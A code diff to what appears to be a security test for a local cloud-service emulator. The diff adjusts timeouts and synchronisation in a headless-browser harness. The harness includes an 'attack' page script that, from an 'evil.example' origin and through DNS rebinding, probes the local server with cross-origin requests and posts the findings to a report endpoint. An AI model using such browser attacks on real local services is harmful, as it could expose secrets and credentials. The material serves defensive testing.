@@ -56,13 +56,13 @@ async function attack(base, report) {
     definition: '{"StartAt":"P","States":{"P":{"Type":"Pass","End":true}}}' });
   const look = async (what, options, path = '/') => {
     try {
-      const answer = await fetch(base + path, { ...options, signal: AbortSignal.timeout(5000) });
+      const answer = await fetch(base + path, { ...options, signal: AbortSignal.timeout(60000) });
       seen.push([what, answer.status, (await answer.text()).slice(0, 80)]);
     } catch (error) {
       seen.push([what, 0, String(error)]);
     }
   };
-  await wait(1000); // a name is bound anew meanwhile
+  await fetch(`${report}/begin`, { mode: 'no-cors' }); // a name is bound anew before it is answered
   const types = ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data', 'application/json',
     'application/x-amz-json-1.0'];
   for (const mode of ['cors', 'no-cors', 'same-origin'])
@@ -83,7 +83,7 @@ async function attack(base, report) {
     element.onload = () => resolve(seen.push([what, 200, 'loaded']));
     element.onerror = () => resolve(seen.push([what, 0, 'refused']));
     document.body.append(element);
-    setTimeout(resolve, 3000);
+    setTimeout(resolve, 60000);
   });
   await load('script', Object.assign(document.createElement('script'), { src: `${base}/metrics` }));
   await load('image', Object.assign(new Image(), { src: `${base}/vault/picture.png` }));
@@ -99,7 +99,7 @@ async function attack(base, report) {
   await new Promise((resolve) => {
     socket.onopen = () => resolve(seen.push(['websocket', 200, 'open']));
     socket.onerror = resolve;
-    setTimeout(resolve, 2000);
+    setTimeout(resolve, 60000);
   });
   await fetch(report, { method: 'POST', body: JSON.stringify(seen) });
 }
@@ -121,14 +121,16 @@ async function visit(pages, origin, base, turned) {
     } else if (request.url === '/page') {
       answer.setHeader('Content-Type', 'text/html');
       answer.end(`<!doctype html><body><script>(${attack})(${show(base)}, ${show(pages.report)})</script>`);
+    } else if (request.url === '/report/begin') {
       turned?.();
+      answer.end();
     } else answer.writeHead(404).end();
   };
   const browser = spawn(chromium, ['--headless=new', '--no-sandbox', '--disable-gpu', '--disable-dev-shm-usage',
     '--no-first-run', '--disable-background-networking', `--user-data-dir=${folder}`,
     '--host-resolver-rules=MAP evil.example 127.0.0.1, MAP rebound.example 127.0.0.2', `${origin}/page`],
   { stdio: 'ignore', detached: true });
-  const patience = setTimeout(told, 90000, null);
+  const patience = setTimeout(told, 240000, null);
   const seen = await report;
   clearTimeout(patience);
   const ended = new Promise((resolve) => browser.on('exit', resolve));
@@ -170,10 +172,10 @@ if (!chromium) {
   });
   await new Promise((resolve) => forwarder.listen(server.port, '127.0.0.2', resolve));
   const rebound = `http://rebound.example:${server.port}`;
-  judge('a name bound anew', await visit(pages, rebound, rebound, () => setTimeout(() => {
+  judge('a name bound anew', await visit(pages, rebound, rebound, () => {
     to = server.port;
     for (const socket of sockets) socket.destroy(); // or the browser would go on with the old ones
-  }, 300)), true);
+  }), true);
 
   const { body } = await server.call('ListStateMachines', {});
   const secret = await server.raw('GET', '/vault/secret', signed('s3'));
